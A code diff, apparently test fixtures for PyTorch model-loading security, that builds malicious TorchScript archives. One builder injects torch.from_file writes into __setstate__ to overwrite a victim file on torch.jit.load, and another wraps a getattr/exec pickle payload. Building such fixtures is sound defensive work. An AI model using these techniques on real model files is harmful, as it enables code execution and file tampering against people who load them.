@@ -10,6 +10,7 @@ from __future__ import annotations
 import contextlib
 import io
 import pickle
+import tempfile
 import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -103,3 +104,62 @@ def torch_serialization_guard() -> Iterator[dict[str, bool]]:
     finally:
         report["replaced"] = torch.serialization._maybe_decode_ascii is not original
         torch.serialization._maybe_decode_ascii = original
+
+
+class StatefulModule(torch.nn.Module):
+    """A module with TorchScript `__getstate__`/`__setstate__`: `torch.jit.load` calls the latter."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.proj = torch.nn.Parameter(torch.zeros(2, 2))
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x @ self.proj
+
+    @torch.jit.export
+    def __getstate__(self) -> tuple[torch.Tensor, bool]:
+        return (self.proj, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
+        self.proj = state[0]
+        self.training = state[1]
+
+
+def setstate_torchscript_archive(path: Path, target: Target) -> Path:
+    """A TorchScript archive whose `__setstate__` overwrites `target.victim` and creates `target.marker`.
+
+    TorchScript cannot call Python, but `torch.from_file(name, shared=True, size=n)` maps a file
+    (creating it if needed) and `fill_` writes through the mapping. The statements are written
+    into the archive's `code/` as an attacker would (the compiler would drop unused results).
+    """
+    scripted = torch.jit.script(StatefulModule())
+    attack = (
+        f'    victim = torch.from_file("{target.victim}", True, 8, dtype=0)\n'
+        f'    marker = torch.from_file("{target.marker}", True, 8, dtype=0)\n'
+        "    print(torch.fill_(victim, 88), torch.fill_(marker, 1))\n"
+    )
+    with tempfile.TemporaryDirectory() as folder:
+        clean = Path(folder) / path.name  # same name: the archive's records live under its stem
+        scripted.save(str(clean))
+        with zipfile.ZipFile(clean) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
+            for info in source.infolist():
+                if info.filename.endswith(".debug_pkl"):
+                    continue  # source ranges of the original code
+                data = source.read(info.filename)
+                if "/code/" in info.filename and b"def __setstate__" in data:
+                    code = data.decode()
+                    start = code.index("  def __setstate__")
+                    body = code.index(") -> NoneType:\n", start) + len(") -> NoneType:\n")
+                    data = (code[:body] + attack + code[body:]).encode()
+                archive.writestr(info.filename, data)
+    return path
+
+
+def getattr_torchscript_archive(path: Path, target: Target) -> Path:
+    """A TorchScript-looking archive (it has `constants.pkl`) whose `data.pkl` is the getattr payload."""
+    torch_archive(path, getattr_exec_pickle(target.python_code()))
+    with zipfile.ZipFile(path, "a") as archive:
+        prefix = archive.namelist()[0].split("/")[0]
+        archive.writestr(f"{prefix}/constants.pkl", pickle.dumps(()))
+    return path
